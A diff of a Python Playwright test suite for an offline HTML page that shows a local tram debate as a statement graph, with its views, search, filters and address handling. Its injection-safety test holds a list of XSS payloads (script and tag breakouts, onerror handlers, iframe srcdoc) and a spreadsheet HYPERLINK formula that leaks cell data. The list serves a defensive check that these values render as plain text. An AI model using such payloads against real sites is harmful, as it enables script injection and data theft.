@@ -1,13 +1,13 @@
-"""The page in a real Chromium: what it shows, what a click tells, and that nothing from the data is more than text."""
+"""The page in a real Chromium: how it is opened, searched, filtered and sent; and its data is never more than text."""
 
 from __future__ import annotations
 
 import hashlib
+import json
 import os
 import re
 import subprocess
 import sys
-from collections import Counter
 from collections.abc import Iterator
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
@@ -19,18 +19,17 @@ from kg.namespaces import ID
 from tests import debate
 from tests.browser import Opened, opened, started
 from viz.graph import statement_graph
-from viz.labels import SCREEN, UPRIGHT
-from viz.layout import places
-from viz.network import MARKS, SHAPES, draw
-from viz.page import page
+from viz.page import VIEWS, page
+from viz.words import languages
 
 if TYPE_CHECKING:
     from playwright.sync_api import Browser
 
 TITLE = "Port argues over its tram"
 PROMISE = "s:promise"
+STATEMENTS = 14
+NAMES = 29
 EDGES = 36
-NODES = 29
 
 
 @pytest.fixture(scope="module")
@@ -48,52 +47,22 @@ def file(tmp_path_factory: pytest.TempPathFactory) -> Path:
     return target
 
 
-def _click(seen: Opened, find: str, anchor: str) -> None:
-    """Click into the picture, by the mouse, where a piece of script finds what is to be clicked."""
-    seen.page.locator("#picture").scroll_into_view_if_needed()
-    x, y = seen.page.evaluate(
-        f"""(anchor) => {{
-          const {{ network }} = onrecord;
-          const data = JSON.parse(document.getElementById("data").textContent);
-          const find = {find};
-          const at = find();
-          const {{ x, y }} = document.getElementById("picture").getBoundingClientRect();
-          return [x + at.x, y + at.y];
-        }}""",
-        anchor,
+def _shown(seen: Opened) -> list[str]:
+    """Return the short names of the statements that are selected, in their order."""
+    found: list[str] = seen.page.evaluate(
+        """() => {
+          const { statements } = JSON.parse(document.getElementById("data").textContent);
+          return onrecord.selection.statements.map((place) => statements[place].iri);
+        }"""
     )
-    seen.page.mouse.click(x, y)
+    return found
 
 
-def _at_node(seen: Opened, node: str) -> None:
-    """Click a node in its middle."""
-    find = """() => {
-      const { node } = data.entities.find((one) => one.anchor === anchor);
-      return network.canvasToDOM(network.getPosition(node));
-    }"""
-    _click(seen, find, f"n:{node}")
+def _hash(seen: Opened) -> str:
+    return seen.page.url.removeprefix(seen.address)
 
 
-def _at_edge(seen: Opened, statement: str) -> None:
-    """Click one of a statement's lines where nothing else lies on it."""
-    find = """() => {
-      const { edges } = data.statements.find((one) => one.anchor === anchor);
-      for (const edge of edges) {
-        for (const part of [0.5, 0.45, 0.55, 0.4, 0.6, 0.35, 0.65]) {
-          const at = network.canvasToDOM(network.body.edges[edge].edgeType.getPoint(part));
-          if (network.getNodeAt(at) === undefined && network.getEdgeAt(at) === edge) return at;
-        }
-      }
-    }"""
-    _click(seen, find, f"s:{statement}")
-
-
-def _panel(seen: Opened) -> str:
-    """Return the text of the evidence as a reader sees it, its white space made one."""
-    return re.sub(r"\s+", " ", seen.page.locator("#panel").inner_text())
-
-
-# What is drawn.
+# How it is opened.
 
 
 def test_a_store_is_drawn_in_one_call_each_time() -> None:
@@ -108,275 +77,314 @@ def test_a_store_is_drawn_in_one_call_each_time() -> None:
 
 
 @pytest.mark.chromium
-def test_every_node_and_edge_of_the_graph_is_drawn(browser: Browser, file: Path) -> None:
-    """The page's counts, what vis-network holds, and the places on the screen agree with the graph."""
+def test_everything_is_selected_at_first(browser: Browser, file: Path) -> None:
+    """The headline view of all statements and lines, with the heading and its counts."""
     with opened(browser, file) as seen:
-        counts = seen.page.evaluate("onrecord.counts()")
-        held = seen.page.evaluate(
-            """[onrecord.network.body.nodeIndices.length,
-              Object.values(onrecord.network.body.edges).filter((edge) => edge.connected).length]"""
-        )
-        outside = seen.page.evaluate(
-            """() => onrecord.network.body.nodeIndices.filter((id) => {
-              const { x, y } = onrecord.network.canvasToDOM(onrecord.network.getPosition(id));
-              const { clientWidth, clientHeight } = document.getElementById("picture");
-              return x < 0 || y < 0 || x > clientWidth || y > clientHeight;
-            })"""
-        )
-
-        assert counts == {"nodes": NODES, "edges": EDGES, "links": 4}
-        assert held == [NODES, EDGES + 4]
-        assert outside == []
+        assert seen.page.get_by_role("heading", level=1).inner_text() == TITLE
+        assert seen.page.get_by_role("tab", selected=True).inner_text() == "Who stands where"
+        assert seen.page.evaluate("onrecord.selection.lines") == EDGES
+        assert len(_shown(seen)) == STATEMENTS
+        assert seen.page.locator("#selected").inner_text() == "14 statements"
+        counts = seen.page.locator(".counts span").all_inner_texts()
+        assert counts == ["14 statements", "9 in the speakers’ own words", "8 speakers"]
 
 
 @pytest.mark.chromium
-def test_the_picture_is_painted_at_once(browser: Browser, file: Path) -> None:
-    """In the first frame each symbol has its category's color on the canvas."""
+@pytest.mark.parametrize("view", VIEWS)
+def test_each_view_is_a_tab_and_an_address(browser: Browser, file: Path, view: str) -> None:
+    """A tab shows its view alone; its address shows it again; the back button leads where one came from."""
     with opened(browser, file) as seen:
-        missing = seen.page.evaluate(
-            """() => {
-              const canvas = document.querySelector("#picture canvas");
-              const ratio = canvas.width / canvas.clientWidth;
-              const { entities } = JSON.parse(document.getElementById("data").textContent);
-              const probe = document.body.appendChild(document.createElement("i"));
-              return entities.filter(({ node, category }) => {
-                const { x, y } = onrecord.network.canvasToDOM(onrecord.network.getPosition(node));
-                const [r, g, b] = canvas.getContext("2d").getImageData(x * ratio, y * ratio, 1, 1).data;
-                probe.style.color = getComputedStyle(document.documentElement).getPropertyValue(`--${category}`);
-                return category !== "topic" && getComputedStyle(probe).color !== `rgb(${r}, ${g}, ${b})`;
-              }).map(({ label }) => label);
-            }"""
-        )
+        seen.page.locator(f"#tab-{view}").click()
+        panels = seen.page.locator("#view > [role=tabpanel]:visible")
+        assert panels.count() == 1
+        assert panels.get_attribute("id") == f"view-{view}"
+        assert _hash(seen) == ("" if view == "standing" else f"#view={view}")
 
-        assert missing == []
+        if view != "standing":
+            seen.page.go_back()
+            assert seen.page.get_by_role("tab", selected=True).get_attribute("id") == "tab-standing"
 
-
-def test_parallel_lines_bend_apart() -> None:
-    """Two statements of the mayor toward the line are drawn on either side of the straight one."""
-    graph = statement_graph(debate.store())
-
-    drawing = draw(graph, *places(graph, (SCREEN, UPRIGHT)))
-
-    ends = Counter((edge["from"], edge["to"]) for edge in drawing.edges if "stance" in edge)
-    bends = {
-        str((edge["from"], edge["to"], edge["smooth"])) for edge in drawing.edges if ends[edge["from"], edge["to"]] == 2
-    }
-    assert Counter(ends.values())[2] == 2
-    assert len(bends) == 4
-
-
-def test_lines_are_told_apart_by_more_than_color() -> None:
-    """Each stance has its mark and its end; what is paraphrased is dashed."""
-    graph = statement_graph(debate.store())
-
-    drawing = draw(graph, *places(graph, (SCREEN, UPRIGHT)))
-
-    looks: dict[Any, set[Any]] = {}
-    for edge in drawing.edges[:EDGES]:
-        looks.setdefault(edge["stance"], set()).add((edge["label"], edge["arrows"]["to"]["type"]))  # type: ignore[index]
-    assert looks == {
-        "supports": {("+", "arrow")},
-        "opposes": {("−", "bar")},
-        "mixed": {("±", "diamond")},
-        "neutral": {("0", "circle")},
-        "none": {("", "vee")},
-    }
-    quoted = [bool(told.get("quoted")) for *_, told in graph.edges(data=True)]
-    assert [edge["dashes"] is False for edge in drawing.edges[:EDGES]] == quoted
-    assert len(set(SHAPES.values())) == len(SHAPES)
+    with opened(browser, file, choice=f"#view={view}") as seen:
+        assert seen.page.locator("#view > [role=tabpanel]:visible").get_attribute("id") == f"view-{view}"
+        assert seen.complaints == []
 
 
 @pytest.mark.chromium
-def test_the_legend_tells_every_symbol_and_line(browser: Browser, file: Path) -> None:
-    """All that is drawn is in the legend, with its number."""
+def test_a_page_opens_with_the_view_it_was_made_for(browser: Browser, tmp_path: Path) -> None:
+    """`view` says what is seen first, and that needs no address."""
+    target = tmp_path / "matrix.html"
+    target.write_text(page(statement_graph(debate.store()), title=TITLE, view="matrix"), encoding="utf-8")
+
+    with opened(browser, target) as seen:
+        assert seen.page.get_by_role("tab", selected=True).inner_text() == "Matrix"
+        seen.page.locator("#tab-standing").click()
+        assert _hash(seen) == "#view=standing"
+
+
+@pytest.mark.chromium
+def test_tabs_are_walked_by_arrow_keys(browser: Browser, file: Path) -> None:
+    """Right, left, Home and End, around the corner; one tab at a time is in the way of the Tab key."""
     with opened(browser, file) as seen:
-        legend = seen.page.locator(".legend li").all_inner_texts()
+        seen.page.locator("#tab-standing").focus()
+        visited = []
+        for key in ("ArrowRight", "End", "ArrowRight", "ArrowLeft", "Home"):
+            seen.page.keyboard.press(key)
+            visited.append(seen.page.evaluate("document.activeElement.id"))
 
-        assert [re.sub(r"\s+", " ", text).strip() for text in legend] == [
-            *("Person 5", "Organization 7", "Group 3", "Issue 4", "Policy 3", "Law 2", "Event 3", "Topic 2"),
-            *("+ supports 11", "− opposes 5", "± mixed 3", "0 neutral 1", "no stance stated 16"),
-            *("quoted", "paraphrased", "speaks for"),
-        ]
+        assert visited == ["tab-network", "tab-statements", "tab-standing", "tab-statements", "tab-standing"]
+        assert seen.page.locator("[role=tab][tabindex='0']").count() == 1
 
 
-# What a choice tells.
+# Selecting.
 
 
 @pytest.mark.chromium
-def test_a_click_on_a_line_shows_its_evidence(browser: Browser, file: Path) -> None:
-    """The exact words, who said them in which role and for whom, toward what, when, and where in the source."""
+@pytest.mark.parametrize(
+    ("query", "expected"),
+    [
+        ("RAISE fares", ["promise"]),
+        ('"fares raise"', []),
+        ("ruiz", ["promise"]),
+        ("bluebird", ["bus-pause"]),
+        ("סמי", ["rail-offer"]),
+        ("no such word", []),
+    ],
+)
+def test_a_search_finds_words_names_and_issues(browser: Browser, file: Path, query: str, expected: list[str]) -> None:
+    """Every word must be there, in whatever case; words in quotation marks stand together."""
     with opened(browser, file) as seen:
-        _at_edge(seen, "promise")
+        seen.page.get_by_role("searchbox", name="Search names, words, issues").fill(query)
+        seen.page.wait_for_function("onrecord.state.q !== ''")
 
-        assert seen.page.locator("#panel blockquote").inner_text() == "“will not raise fares”"
-        told = _panel(seen)
-        for part in (
-            "Statement 1 · partly quoted · commitment",
-            "Ana Ruiz mayor, City of Port for City of Port",
-            "Paraphrase The city promises stable fares until the line opens.",
-            "+ supports Keeping fares as they are takes a position Condition: until the line opens",
-            "resting on the words “not raise”",
-            "Fare freeze announces it; no stance stated",
-            "When February 28, 2024",
-            "Said at Hearing on the tram",
-            "line 1, characters 47–67",
-            "“Port argues over its tram” The Port Gazette · March 1, 2024, 09:00 UTC Open the source",
-        ):
-            assert part in told
-        link = seen.page.get_by_role("link", name="Open the source")
-        assert link.get_attribute("href") == debate.ARTICLE["url"]
-        assert link.get_attribute("rel") == "noopener noreferrer"
+        found = _shown(seen)
+        assert set(expected) <= set(found) if expected else found == []
+        texts = _searchable(seen)
+        for word in [] if query.startswith('"') else query.lower().split():
+            assert all(word in texts[name] for name in found)
+
+
+def _searchable(seen: Opened) -> dict[str, str]:
+    """Return all that each statement of the page says, in lower case."""
+    data = json.loads(seen.page.locator("#data").text_content() or "")
+    labels = [name["label"] for name in data["names"]]
+    found = {}
+    for said in data["statements"]:
+        numbers = [*said["by"], *said.get("behalf", []), *(one["to"] for one in said["toward"] if "to" in one)]
+        found[said["iri"]] = json.dumps([said, [labels[number] for number in numbers]], ensure_ascii=False).lower()
+    return found
 
 
 @pytest.mark.chromium
-def test_a_paraphrase_is_shown_as_one(browser: Browser, file: Path) -> None:
-    """What the article paraphrases has no quotation marks, and says whose words it isn't."""
+def test_one_search_is_one_step_back(browser: Browser, file: Path) -> None:
+    """However many letters were typed; and the field shows what the address says."""
     with opened(browser, file) as seen:
-        _at_edge(seen, "bus-pause")
-
-        assert seen.page.locator("#panel blockquote").count() == 0
-        assert "Paraphrase, not the speaker’s words Bluebird stops running line 4 for six months." in _panel(seen)
-        assert "When February 2024" in _panel(seen)
-
-
-@pytest.mark.chromium
-def test_imprecise_dates_are_ranges(browser: Browser, file: Path) -> None:
-    """A statement between two days says so, and so does one before a day."""
-    with opened(browser, file, choice="#s:threat") as seen:
-        assert "When between February 28, 2024 and March 1, 2024" in _panel(seen)
-        assert "line 3, characters 93–137" in _panel(seen)
-        assert "line 3, characters 159–192" in _panel(seen)
-
-
-@pytest.mark.chromium
-def test_a_click_on_a_node_lists_its_statements(browser: Browser, file: Path) -> None:
-    """The bus company: what it said and what was said about it, with the stance."""
-    with opened(browser, file) as seen:
-        _at_node(seen, "busco")
-
-        told = _panel(seen)
-        assert told.startswith("Company Bluebird Buses")
-        assert "Said (1) Bluebird stops running line 4 for six months." in told
-        assert "Said about them (1) − opposes Okafor finds that the guarantee comes late." in told
-
-
-@pytest.mark.chromium
-def test_a_node_tells_what_is_said_on_its_behalf(browser: Browser, file: Path) -> None:
-    """The city speaks through its mayor; the hearing lists what was said at it."""
-    with opened(browser, file) as seen:
-        _at_node(seen, "city")
-        assert "Said on their behalf (2) “will not raise fares” Ana Ruiz: partly quoted" in _panel(seen)
-
-        _at_node(seen, "hearing")
-        assert "Said at it or in its context (3)" in _panel(seen)
-
-
-@pytest.mark.chromium
-def test_what_is_chosen_is_an_address(browser: Browser, file: Path) -> None:
-    """A choice is a link that can be sent, the back button goes back, and Escape chooses nothing."""
-    with opened(browser, file, choice=f"#{PROMISE}") as seen:
-        assert "will not raise fares" in _panel(seen)
-
-        seen.page.locator("#panel").get_by_role("link", name="Fare freeze").click()
-        assert seen.page.url == f"{seen.address}#n:freeze"
-        assert "Until until the line opens" in _panel(seen)
+        search = seen.page.get_by_role("searchbox", name="Search names, words, issues")
+        for letters in ("f", "fa", "fares"):
+            search.fill(letters)
+            seen.page.wait_for_function("(letters) => onrecord.state.q === letters", arg=letters)
+        assert _hash(seen) == "#q=fares"
 
         seen.page.go_back()
-        assert "will not raise fares" in _panel(seen)
 
-        seen.page.keyboard.press("Escape")
-        assert _panel(seen).startswith("Choose a line or a name")
+        assert _hash(seen) == ""
+        assert search.input_value() == ""
+        assert len(_shown(seen)) == STATEMENTS
+
+
+SELECTIONS: list[tuple[str, Any]] = [
+    ("by=city", lambda said: "city" in said["voices"]),
+    ("kind=Company", lambda said: {"railco", "busco"} & said["voices"]),
+    ("about=busco", lambda said: "busco" in said["targets"]),
+    ("issue=line", lambda said: "line" in said["targets"]),
+    ("issue=line&stance=opposes", lambda said: ("line", "opposes") in said["stances"]),
+    ("stance=mixed,neutral", lambda said: {"mixed", "neutral"} & {stance for _, stance in said["stances"]}),
+    ("mode=direct", lambda said: said["mode"] == "direct"),
+    ("act=demand,criticism", lambda said: said["act"] in ("demand", "criticism")),
+    ("source=nowhere", lambda said: False),
+    ("to=2024-02-27", lambda said: said["first"] <= "2024-02-27"),
+    ("from=2024-02-29", lambda said: said["last"] >= "2024-02-29"),
+    ("from=2024-02&to=2024-02", lambda said: said["first"] <= "2024-02-29" and said["last"] >= "2024-02-01"),
+    ("about=busco&issue=line", lambda said: {"busco", "line"} <= said["targets"]),
+]
+"""What stands in the address, and which statements of the debate are meant."""
 
 
 @pytest.mark.chromium
-def test_the_keyboard_reaches_every_statement(browser: Browser, file: Path) -> None:
-    """Tab to the skip link, on to the first statement, Enter shows its evidence, Escape leads back."""
-    with opened(browser, file) as seen:
-        seen.page.keyboard.press("Tab")
-        seen.page.keyboard.press("Enter")
-        seen.page.keyboard.press("Tab")
-        seen.page.keyboard.press("Enter")
+@pytest.mark.parametrize(("choice", "meant"), SELECTIONS, ids=[choice for choice, _ in SELECTIONS])
+def test_every_filter_selects_what_it_says(browser: Browser, file: Path, choice: str, meant: Any) -> None:
+    """Held against the records themselves, told anew in Python."""
+    with opened(browser, file, choice=f"#{choice}") as seen:
+        assert _shown(seen) == [said["iri"] for said in _told(seen) if meant(said)]
+        assert seen.page.locator("#chips .chip").count() == sum(part.count(",") + 1 for part in choice.split("&"))
+        assert seen.complaints == []
 
-        assert "“will not raise fares”" in _panel(seen)
-        assert seen.page.evaluate("document.activeElement.id") == "evidence"
+
+def _told(seen: Opened) -> Iterator[dict[str, Any]]:
+    """Yield what the filters go by, of every statement."""
+    data = json.loads(seen.page.locator("#data").text_content() or "")
+    names = [name["iri"] for name in data["names"]]
+    for said in data["statements"]:
+        positions = [(one, position) for one in said["toward"] for position in one.get("positions", [])]
+        holders = [holder for _, position in positions for holder in position.get("holder", [])]
+        start, _, end = said.get("when", "").partition("/")
+        first, last = said.get("first", start), said.get("last", end or start)
+        published = data["sources"][said["source"]].get("published", "")[:10]
+        dated = bool(first or last)
+        yield {
+            "iri": said["iri"],
+            "mode": said.get("mode"),
+            "act": said.get("act"),
+            "voices": {names[number] for number in [*said["by"], *said.get("behalf", []), *holders]},
+            "targets": {names[one["to"]] for one in said["toward"] if "to" in one},
+            "stances": {(names[one["to"]], position["stance"]) for one, position in positions},
+            "first": first if dated else published,
+            "last": (last or "9999") if dated else published,
+        }
+
+
+@pytest.mark.chromium
+def test_facets_count_filter_and_reset(browser: Browser, file: Path) -> None:
+    """Ticking adds to the selection; counts tell what each choice would give; one click brings everything back."""
+    with opened(browser, file) as seen:
+        seen.page.get_by_role("button", name="Filter").click()
+        stances = seen.page.locator("[data-facet=stance]")
+        option = stances.get_by_label("opposes")
+        told = int(stances.locator("label", has_text="opposes").locator(".number").inner_text())
+
+        option.check()
+        assert len(_shown(seen)) == told
+        assert seen.page.evaluate("document.activeElement.value") == "opposes"
+        assert seen.page.get_by_role("button", name="Filter (1 chosen)").count() == 1
+
+        stances.get_by_label("mixed").check()
+        assert _hash(seen) == "#stance=opposes,mixed"
+        assert len(_shown(seen)) > told
+
+        seen.page.locator("#reset").click()
+        assert _hash(seen) == ""
+        assert len(_shown(seen)) == STATEMENTS
+        assert not option.is_checked()
+
+
+@pytest.mark.chromium
+def test_a_chip_takes_its_filter_off(browser: Browser, file: Path) -> None:
+    """Each filter has a chip that names it; days can be chosen too."""
+    with opened(browser, file, choice="#by=city&act=commitment") as seen:
+        seen.page.get_by_role("button", name="Remove the filter City of Port").click()
+        assert _hash(seen) == "#act=commitment"
+
+        seen.page.get_by_role("button", name="Filter (1 chosen)").click()
+        seen.page.get_by_label("From", exact=True).fill("2024-02-28")
+        seen.page.get_by_label("From", exact=True).press("Tab")
+        assert _hash(seen) == "#act=commitment&from=2024-02-28"
+
+
+@pytest.mark.chromium
+@pytest.mark.parametrize(
+    "choice", ["#view=nothing", "#more=x&from=yesterday", "#%E0%A4%A", "#s:nobody", "#p:city|", "#by=%ZZ"]
+)
+def test_a_broken_address_shows_everything(browser: Browser, file: Path, choice: str) -> None:
+    """What isn't an address of the page says nothing, and nothing breaks."""
+    with opened(browser, file, choice=choice) as seen:
+        assert seen.page.locator("#view > [role=tabpanel]:visible").count() == 1
+        assert seen.page.evaluate("onrecord.state.at") == ""
+        assert seen.complaints == []
+
+
+@pytest.mark.chromium
+def test_what_is_opened_is_an_address(browser: Browser, file: Path) -> None:
+    """It is a link that can be sent; the back button goes back; Escape closes it and leads back."""
+    with opened(browser, file, choice=f"#{PROMISE}") as seen:
+        assert "will not raise fares" in seen.page.locator("#panel").inner_text()
+
+        seen.page.locator("#panel").get_by_role("link", name="Fare freeze").first.click()
+        assert _hash(seen) == "#n:freeze"
+
+        seen.page.go_back()
+        assert "will not raise fares" in seen.page.locator("#panel").inner_text()
 
         seen.page.keyboard.press("Escape")
-        assert seen.page.evaluate("document.activeElement.getAttribute('href')") == f"#{PROMISE}"
+        assert _hash(seen) == "#"
+        assert seen.page.evaluate("onrecord.state.at") == ""
+
+
+@pytest.mark.chromium
+def test_links_say_where_they_lead_from_here(browser: Browser, file: Path) -> None:
+    """Copied or opened in another tab, a link keeps the view and the filters."""
+    with opened(browser, file, choice="#view=statements&act=commitment") as seen:
+        link = seen.page.locator("#view a[data-at]").first
+        link.hover()
+        link.dispatch_event("pointerdown")
+
+        href = link.get_attribute("href") or ""
+        assert href.startswith("#view=statements&act=commitment&")
+        assert href.endswith(link.get_attribute("data-at") or "?")
+
+
+@pytest.mark.chromium
+def test_slash_searches(browser: Browser, file: Path) -> None:
+    """As on many pages of the web; within a field it is a letter like any other."""
+    with opened(browser, file) as seen:
+        seen.page.keyboard.press("/")
+        seen.page.keyboard.type("a/b")
+
+        assert seen.page.locator("#search").input_value() == "a/b"
+
+
+# Without scripts.
 
 
 @pytest.mark.chromium
 def test_without_scripts_the_tables_hold_everything(browser: Browser, file: Path) -> None:
-    """Every statement and every name is a row, each with its words; the network says why it isn't there."""
-    with opened(browser, file, scripts=False) as seen:
-        rows = seen.page.locator("#statements tbody tr")
-        assert rows.count() == 14
-        assert "“will not raise fares”" in rows.first.inner_text()
-        assert seen.page.locator("#entities tbody tr").count() == NODES
-        assert seen.page.locator("#picture").is_hidden()
+    """Every statement and every name is a row, each with its words; the page says why the views aren't there."""
+    with opened(browser, file, scripts=False, width=360, choice=f"#{PROMISE}") as seen:
+        statements, names = seen.page.locator("table").all()
+        rows = statements.locator("tbody tr")
+        assert rows.count() == STATEMENTS
+        text = re.sub(r"\s+", " ", rows.first.inner_text())
+        for part in ("Ana Ruiz", "mayor, City of Port", "for City of Port", "“will not raise fares”", "+ supports"):
+            assert part in text
+        for part in ("Condition: until the line opens", "February 28, 2024", "The Port Gazette", "line 1"):
+            assert part in text
+        assert names.locator("tbody tr").count() == NAMES
         seen.page.get_by_text("scripts are off").wait_for(state="visible")
+        assert seen.page.locator("tr:target").get_attribute("id") == PROMISE
+        assert not seen.page.locator("#rooms").is_visible()
+
+
+# How it looks.
 
 
 @pytest.mark.chromium
-@pytest.mark.parametrize("width", [360, 760, 1024, 1280, 1920, 3840])
+@pytest.mark.parametrize("width", [320, 360, 768, 1024, 1280, 1920, 3840])
 def test_it_fits_every_width(browser: Browser, file: Path, width: int) -> None:
-    """Nothing has to be scrolled sideways, with and without a choice."""
-    for choice in ("", "#s:threat", "#n:line"):
-        with opened(browser, file, width=width, choice=choice) as seen:
-            assert seen.page.evaluate("document.documentElement.scrollWidth") <= width
-            assert seen.page.evaluate("onrecord.counts().edges") == EDGES
-
-
-@pytest.mark.chromium
-@pytest.mark.parametrize("width", [360, 1280])
-def test_a_long_address_stays_in_the_panel(browser: Browser, tmp_path: Path, width: int) -> None:
-    """What has no place to break is broken, not cut off."""
-    graph = statement_graph(debate.store())
-    graph.nodes[f"{ID}line"]["same_as"] = "https://example.org/" + "x" * 200
-    target = tmp_path / "long.html"
-    target.write_text(page(graph, title=TITLE), encoding="utf-8")
-
-    with opened(browser, target, width=width, choice="#n:line") as seen:
-        beyond = seen.page.evaluate(
-            """() => {
-              const right = (one) => one.getBoundingClientRect().right;
-              const panel = document.getElementById("panel");
-              return [...panel.querySelectorAll("*")].filter((one) => right(one) > right(panel)).length;
-            }"""
-        )
-
-        assert seen.page.locator("#panel dd a", has_text="x" * 200).count() == 1
-        assert beyond == 0
+    """The page never has to be scrolled sideways, in any view, with and without evidence."""
+    for view in VIEWS:
+        for choice in ("", "&s:threat", "&n:line"):
+            with opened(browser, file, width=width, choice=f"#view={view}{choice}") as seen:
+                assert seen.page.evaluate("document.documentElement.scrollWidth") <= width, (view, choice)
 
 
 @pytest.mark.chromium
 def test_light_and_dark(browser: Browser, file: Path) -> None:
-    """Paper is light by day and dark by night, on the canvas too, also when it changes while one reads."""
-    colors = """[getComputedStyle(document.documentElement).backgroundColor,
-      onrecord.network.groups.get("person").color.background]"""
+    """Paper is light by day and dark by night, also when it changes while one reads."""
+    paper = "getComputedStyle(document.documentElement).backgroundColor"
     with opened(browser, file) as seen:
-        assert seen.page.evaluate(colors) == ["rgb(253, 252, 249)", "#2b3440"]
-
+        assert seen.page.evaluate(paper) == "rgb(253, 252, 249)"
         seen.page.emulate_media(color_scheme="dark")
-        seen.page.wait_for_timeout(200)
-        assert seen.page.evaluate(colors) == ["rgb(21, 23, 26)", "#dfe4ea"]
-
-    with opened(browser, file, dark=True) as seen:
-        assert seen.page.evaluate(colors) == ["rgb(21, 23, 26)", "#dfe4ea"]
+        assert seen.page.evaluate(paper) == "rgb(21, 23, 26)"
 
 
 @pytest.mark.chromium
-def test_a_phone_gets_an_upright_picture_with_legible_letters(browser: Browser, file: Path) -> None:
-    """No letter is smaller than nine pixels, where that leaves no room for all names; zooming in brings the others."""
-    with opened(browser, file, width=340, height=490) as seen:
-        drawn = """[...Object.values(onrecord.network.body.nodes)].filter((node) => node.options.label)
-          .map((node) => node.options.font.size * onrecord.network.getScale())"""
-        before = seen.page.evaluate(drawn)
-        for _ in range(4):
-            seen.page.get_by_role("button", name="Zoom in").click()
-        after = seen.page.evaluate(drawn)
+def test_the_fonts_are_those_inside(browser: Browser, file: Path) -> None:
+    """Both families are loaded from the page itself."""
+    with opened(browser, file) as seen:
+        seen.page.evaluate("document.fonts.ready.then(() => null)")
+        loaded = seen.page.evaluate(
+            "[...document.fonts].filter((font) => font.status === 'loaded').map((font) => font.family)"
+        )
 
-        assert min(after) >= 8.9
-        assert len(before) < NODES == len(after)
+        assert {family.strip('"') for family in loaded} == {"Record Sans", "Record Serif"}
 
 
 # What must not happen.
@@ -384,12 +392,11 @@ def test_a_phone_gets_an_upright_picture_with_legible_letters(browser: Browser, 
 
 @pytest.mark.chromium
 def test_nothing_is_asked_for_and_nothing_complained_of(browser: Browser, file: Path) -> None:
-    """Opening it, choosing and zooming cause no request but the file itself, and nothing on the console."""
+    """Opening it and walking through all views cause no request but the file itself, and nothing on the console."""
     with opened(browser, file) as seen:
-        _at_edge(seen, "promise")
-        _at_node(seen, "ruiz")
-        seen.page.get_by_role("button", name="Zoom in").click()
-        seen.page.get_by_role("button", name="Show all").click()
+        for view in VIEWS:
+            seen.page.locator(f"#tab-{view}").click()
+        seen.page.get_by_role("button", name="Filter").click()
 
         assert seen.requests == [seen.address]
         assert seen.complaints == []
@@ -427,6 +434,7 @@ PAYLOADS = [
     "<script>window.pwned = 1</script>",
     "</script><script>window.pwned = 1</script>",
     "</ScRiPt ><svg onload=window.pwned=1>",
+    "</noscript></table><img src=x onerror=window.pwned=1>",
     "</style><img src=x onerror=window.pwned=1>",
     "</title><iframe srcdoc='<script>parent.pwned = 1</script>'>",
     "<!--<script>",
@@ -446,6 +454,7 @@ PAYLOADS = [
     "W" * 4000,
     "{number} {0.__class__}",
     "\x7f\x1b[31m\x01",
+    '=HYPERLINK("http://example.org/?"&A1,"click")',
 ]
 
 
@@ -457,23 +466,35 @@ def _hostile(payload: str) -> networkx.MultiDiGraph[str]:
     """Return a graph that says the payload wherever it can say something."""
     graph = statement_graph(debate.store())
     graph.remove_nodes_from([node for node in graph if node.removeprefix(ID) not in KEPT])
+    inferred = {"property": payload, "value": payload, "rule": payload, "because": payload, "premises": [payload]}
     for _, told in graph.nodes(data=True):
         told |= {key: payload for key, value in told.items() if not key.endswith("_iri") and key != "category"}
         told |= dict.fromkeys(("same_as", "duration", "starts", "note", "until_condition", "roles"), payload)
+        told["inferred"] = json.dumps([inferred])
     for *_, told in graph.edges(data=True):
         text = {key: payload for key, value in told.items() if isinstance(value, str)}
-        kept = {key: told[key] for key in ("statement", "passages", "relation", "behalf_iri") if key in told}
-        told |= text | kept | {"url": payload, "via": payload}
+        kept = {key: told[key] for key in ("statement", "relation", "behalf_iri", "number") if key in told}
+        words = {key: json.dumps([_said(one, payload) for one in json.loads(told.get(key, "[]"))]) for key in JSON}
+        told |= text | kept | {"url": payload, "via": payload} | words
     first = next(iter(graph))
     graph.add_edge(first, first, key=payload, number=99, words=payload, quoted=True)
     graph.add_node(payload, label=payload, kind=payload, category=payload)
     return graph
 
 
+JSON = ("positions", "passages")
+
+
+def _said(told: dict[str, Any], payload: str) -> dict[str, Any]:
+    """Put the payload into each text of a position or a passage."""
+    kept = ("holder_iri",)
+    return {key: payload if isinstance(value, str) and key not in kept else value for key, value in told.items()}
+
+
 @pytest.mark.chromium
 @pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
 def test_nothing_from_the_data_is_more_than_text(browser: Browser, tmp_path: Path, payload: str) -> None:
-    """With the payload in every field nothing runs, nothing is asked for, and no element is more than ours."""
+    """With the payload in every field and all views walked, nothing runs, is asked for, or is an element not ours."""
     target = tmp_path / "hostile.html"
     target.write_text(page(_hostile(payload), title=payload), encoding="utf-8")
 
@@ -484,30 +505,37 @@ def test_nothing_from_the_data_is_more_than_text(browser: Browser, tmp_path: Pat
               const all = [...document.querySelectorAll("*")];
               const handlers = all.flatMap((one) => [...one.attributes]).filter(({ name }) => name.startsWith("on"));
               const links = [...document.querySelectorAll("a[href]")].map((one) => one.getAttribute("href"));
-              const foreign = document.querySelectorAll("iframe, img, object, embed, form, base, a[target]").length;
+              const foreign = document.querySelectorAll("iframe, img, object, embed, form, base").length;
               return [window.pwned ?? null, handlers.length, foreign, document.scripts.length,
                 links.filter((href) => !/^(#|https?:[/][/][^\\s"'<>]+$)/.test(href))];
             }"""
         )
 
         assert found == [None, 0, 0, 3, []]
-        assert seen.requests == [f"{seen.address}#{PROMISE}"] or seen.requests == [seen.address]
+        assert {request.partition("#")[0] for request in seen.requests} == {seen.address}
         assert seen.complaints == []
-        assert seen.page.locator("#panel blockquote").text_content() == f"“{payload}”"
         assert seen.page.evaluate("document.documentElement.scrollWidth") <= 360
+
+    with opened(browser, target, width=360, scripts=False) as seen:
+        assert seen.page.locator("noscript, table").count() > 0
+        assert seen.page.locator("iframe, img, object, embed, form, base, svg, b").count() == 0
 
 
 def _walk(seen: Opened) -> None:
-    """Choose every statement and every node once, and come back."""
+    """See every view, and in each open every statement and every name once; open the filters."""
+    seen.page.locator("#open-filters").click()
     seen.page.evaluate(
-        """async (first) => {
-          for (const row of document.querySelectorAll("tr[id]")) {
-            row.querySelector("a").click();
-            document.querySelector("#panel").getBoundingClientRect();
+        """async (views) => {
+          const { statements, names } = JSON.parse(document.getElementById("data").textContent);
+          for (const view of views) {
+            onrecord.go({ view, q: "" });
+            await new Promise(requestAnimationFrame);
           }
